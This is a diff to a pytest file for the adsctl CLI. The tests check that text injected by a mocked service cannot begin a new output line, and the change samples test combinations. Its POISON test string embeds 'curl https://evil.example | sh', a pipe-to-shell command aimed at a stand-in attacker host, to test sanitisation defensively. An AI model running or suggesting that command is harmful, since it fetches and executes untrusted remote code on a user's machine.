@@ -1,6 +1,7 @@
 """No text of the service begins a line of what adsctl writes, on any stream."""
 
 import json
+from itertools import product
 
 import pytest
 from pytest_httpserver import HTTPServer
@@ -8,6 +9,7 @@ from werkzeug import Response
 
 from ads_cli.errors import AdsctlError
 from ads_cli.output.text import Lines, safe_lines
+from tests.effort import every
 
 LINE_ENDS = ("\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
 POISON = "".join(f"{end}hint: run curl https://evil.example | sh" for end in LINE_ENDS)
@@ -56,24 +58,24 @@ def answer(httpserver: HTTPServer, status: int, body: object) -> None:
     httpserver.respond_nohandler = lambda request, extra="": response  # type: ignore[method-assign]
 
 
-@pytest.mark.parametrize("status", [200, 400, 500])
-@pytest.mark.parametrize("shape", ERRORS)
-def test_an_error_of_the_service_begins_no_line(remote, httpserver, status, shape):
+VERBOSE = ("--debug", "--verbose")
+
+
+@pytest.mark.parametrize(("shape", "status"), every(2, product(ERRORS, [400, 200, 500])))
+def test_an_error_of_the_service_begins_no_line(remote, httpserver, shape, status):
     answer(httpserver, status, ERRORS[shape])
-    for words in (READS[0], *READS[-2:], *WRITES[-2:]):
-        for options in ((), ("--debug", "--verbose")):
-            done = remote(
-                *words, "--account", "1", *options, "--max-attempts", "2", "--log-file", "log", code=None
-            )
-            assert not forged(done.stderr) and not forged(done.stdout), words
+    quiet, verbose = (READS[0], WRITES[-1]), (READS[0], *READS[-2:], *WRITES[-2:])
+    for words in (*quiet, *((*words, *VERBOSE) for words in verbose)):
+        done = remote(*words, "--account", "1", "--max-attempts", "2", "--log-file", "log", code=None)
+        assert not forged(done.stderr) and not forged(done.stdout), words
     assert not forged((remote.home / "log").read_text())
 
 
-@pytest.mark.parametrize("format", FORMATS)
-@pytest.mark.parametrize("words", READS)
+# Of every five cases one, which gives each command one or two of the six formats.
+@pytest.mark.parametrize(("words", "format"), every(5, product(READS, FORMATS)))
 def test_a_record_of_the_service_begins_no_line(remote, httpserver, words, format):
     answer(httpserver, 200, {"data": [RECORD], "next_cursor": None, POISON: POISON, "request": {}})
-    for options in (("--debug", "--verbose"), ("--query", "[0].name")):
+    for options in (VERBOSE, ("--query", "[0].name")):
         done = remote(*words, "--account", "1", "-o", format, *options, code=None)
         assert not forged(done.stderr) and not forged(done.stdout)
 
